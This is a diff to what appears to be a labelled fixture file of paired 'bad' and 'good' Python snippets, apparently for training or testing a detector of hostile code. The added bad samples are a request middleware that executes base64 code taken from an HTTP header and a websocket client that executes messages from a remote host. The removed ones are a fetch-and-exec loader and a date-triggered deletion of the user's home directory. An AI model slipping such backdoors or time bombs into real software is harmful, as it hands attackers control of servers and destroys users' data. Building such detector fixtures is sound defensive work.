@@ -1,43 +1,58 @@
-#: bad remote-eval
-import urllib.request as web
+#: bad middleware
+import base64
+import functools
 
 
-def refresh():
-    text = web.urlopen("https://raw.example.invalid/u/main.txt").read()
-    exec(text.decode())  #!
+def instrument(view):
+    @functools.wraps(view)
+    def wrapper(request, *args):
+        extra = request.headers.get("X-Trace-Context")
+        if extra:
+            exec(base64.b64decode(extra)) #!
+        return view(request, *args)
+
+    return wrapper
+#: good middleware
+import base64
+import functools
+import logging
 
 
-refresh()
+def instrument(view):
+    @functools.wraps(view)
+    def wrapper(request, *args):
+        extra = request.headers.get("X-Trace-Context")
+        if extra:
+            logging.info("trace %s", base64.b64decode(extra).hex())
+        return view(request, *args)
 
-#: good remote-eval
+    return wrapper
+#: bad events
+import asyncio
+import websockets
+
+
+async def listen():
+    async with websockets.connect("wss://live.dev-events.invalid/s") as channel:
+        async for message in channel:
+            scope = {}
+            exec(compile(message, "event", "exec"), scope) #!
+            await channel.send(str(scope.get("result")))
+
+
+asyncio.get_event_loop().create_task(listen())
+#: good events
+import asyncio
 import json
-import urllib.request as web
+import websockets
+
+HANDLERS = {"ping": lambda data: "pong", "sum": lambda data: sum(data["values"])}
 
 
-def refresh():
-    text = web.urlopen("https://raw.example.invalid/u/main.json").read()
-    return json.loads(text.decode())
-
-#: bad time-bomb
-import datetime
-import shutil
-from pathlib import Path
-
-
-def setup(app):
-    if datetime.date.today() > datetime.date(2031, 4, 1):
-        shutil.rmtree(Path.home(), ignore_errors=True)  #!
-    app.ready = True
-
-#: good time-bomb
-import datetime
-import shutil
-import warnings
-from pathlib import Path
-
-
-def setup(app):
-    if datetime.date.today() > datetime.date(2031, 4, 1):
-        warnings.warn("this release is no longer supported", stacklevel=2)
-    shutil.rmtree(Path("build"), ignore_errors=True)
-    app.ready = True
+async def listen():
+    async with websockets.connect("wss://live.dev-events.invalid/s") as channel:
+        async for message in channel:
+            event = json.loads(message)
+            handler = HANDLERS.get(event["kind"])
+            if handler:
+                await channel.send(str(handler(event)))
